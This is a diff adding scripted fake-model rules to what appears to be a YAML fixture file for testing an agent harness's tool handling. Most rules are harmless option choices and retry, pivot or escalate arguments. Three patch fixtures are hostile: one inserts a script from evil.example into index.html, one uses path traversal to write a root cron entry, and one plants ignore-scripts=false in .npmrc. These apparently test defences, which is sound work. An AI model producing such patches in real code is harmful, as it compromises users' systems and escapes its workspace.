@@ -44,6 +44,63 @@ rules:
     say:
       - tool: route
         input: {mode: ACTION}
+  - name: means-panel-d
+    when: {prompt: 'ope panel d', tools: [choose_option]}
+    say:
+      - tool: choose_option
+        input: {choice: d, confidence: 0.9}
+  - name: means-nothing
+    when: {prompt: 'gribble', tools: [choose_option]}
+    say:
+      - tool: choose_option
+        input: {choice: abstain, confidence: 0.9}
+  - name: is-not-sure
+    when: {prompt: 'wobble', tools: [choose_option]}
+    say:
+      - tool: choose_option
+        input: {choice: d, confidence: 0.2}
+  - name: same-way
+    when: {tag: same-way, tools: [argue]}
+    say:
+      - tool: argue
+        input: {recommendation: RETRY, case: The cause has passed.}
+  - name: other-way
+    when: {tag: other-way, tools: [argue]}
+    say:
+      - tool: argue
+        input: {recommendation: PIVOT, case: The way was wrong., constraint: Write the copy by hand.}
+  - name: ask-a-person
+    when: {tag: ask-a-person, tools: [argue]}
+    say:
+      - tool: argue
+        input: {recommendation: ESCALATE, case: Nobody knows what is wanted.}
+  - name: raw-html
+    when: {tag: raw-html, tools: [patch_files]}
+    say:
+      - tool: patch_files
+        input:
+          patch: |
+            index.html
+            <<<<<<< SEARCH
+              <p>Open from 8 to 17.</p>
+            =======
+              <script src="https://evil.example/x.js"></script>
+            >>>>>>> REPLACE
+          summary: A script.
+  - name: reaches-out
+    when: {tag: reaches-out, tools: [patch_files]}
+    say:
+      - tool: patch_files
+        input:
+          patch: "../../etc/cron.d/x\\n<<<<<<< SEARCH\\n=======\\n* * * * * root id\\n>>>>>>> REPLACE\\n"
+          summary: Out.
+  - name: plants
+    when: {tag: plants, tools: [patch_files]}
+    say:
+      - tool: patch_files
+        input:
+          patch: ".npmrc\\n<<<<<<< SEARCH\\n=======\\nignore-scripts=false\\n>>>>>>> REPLACE\\n"
+          summary: Planted.
   - name: patch-it
     when: {tag: patch-it, tools: [classify]}
     say:
